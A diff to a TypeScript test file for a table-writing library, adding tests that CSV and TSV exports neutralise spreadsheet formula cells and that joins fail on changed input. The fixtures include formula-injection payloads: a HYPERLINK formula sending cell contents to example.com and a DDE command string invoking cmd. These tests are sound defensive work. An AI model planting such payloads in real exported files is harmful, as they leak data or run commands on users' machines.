@@ -1,4 +1,4 @@
-import { readFileSync } from "node:fs";
+import { appendFileSync, readFileSync } from "node:fs";
 import { type OutputColumn, openTable, readParquet, writeTable } from "@clusterwhy/table";
 import { describe, expect, it } from "vitest";
 import { cells, columnsOf, csv, failure, file, pathFor } from "./files.js";
@@ -53,7 +53,47 @@ describe("writeTable", () => {
   });
 });
 
+describe("cells that a spreadsheet would run", () => {
+  const formula = '=HYPERLINK("http://example.com/"&A1,"open")';
+
+  it.each(["csv", "tsv"])("are text in %s: names, read values and added values", async (ending) => {
+    const source = file("t.csv", 'who,-a(b),n\n@SUM(A1),x,-1.5\n"\'=1","+43 660 1",-2\n-,y,+3\n');
+    const opened = await openTable(source);
+    const path = pathFor(`joined.${ending}`);
+    await opened.writeJoined(path, [
+      { name: formula, type: "string", values: [formula, "-1+cmd|'x'!A0", ""] },
+    ]);
+    await opened.close();
+    const split = ending === "csv" ? "," : "\t";
+    const quoted = (text: string) => (/[",]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text);
+    expect(readFileSync(path, "utf8").split("\n")).toEqual([
+      ["who", "'-a(b)", "n", quoted(`'${formula}`)].join(split),
+      ["'@SUM(A1)", "x", "-1.5", quoted(`'${formula}`)].join(split),
+      [quoted("''=1"), "+43 660 1", "-2", quoted("'-1+cmd|'x'!A0")].join(split),
+      ["-", "y", "+3", '""'].join(split),
+      "",
+    ]);
+  });
+
+  it.each(["ndjson", "parquet"])("stay as they are in %s, which spreadsheets do not run", async (ending) => {
+    const path = pathFor(`out.${ending}`);
+    await writeTable(path, [{ name: "v", type: "string", values: [formula, "@x"] }]);
+    expect(cells((await columnsOf(path)).v)).toEqual([formula, "@x"]);
+  });
+});
+
 describe("writeJoined", () => {
+  it("refuses to join rows with a file that was changed since they were read", async () => {
+    const path = file("t.csv", "n,v\n1,a\n2,b\n");
+    const opened = await openTable(path);
+    appendFileSync(path, "3,c\n");
+    const joined = opened.writeJoined(pathFor("joined.csv"), [
+      { name: "segment", type: "string", values: ["x", "y"] },
+    ]);
+    expect((await failure(joined)).code).toBe("INPUT_CHANGED");
+    await opened.close();
+  });
+
   it("keeps the original columns as they were written, and their order", async () => {
     const text = 'id,when,amount,flag,note\n007,01/02/2024,1.50,yes,"a, b"\n008,,NA,no,\n';
     const opened = await openTable(file("t.csv", text));
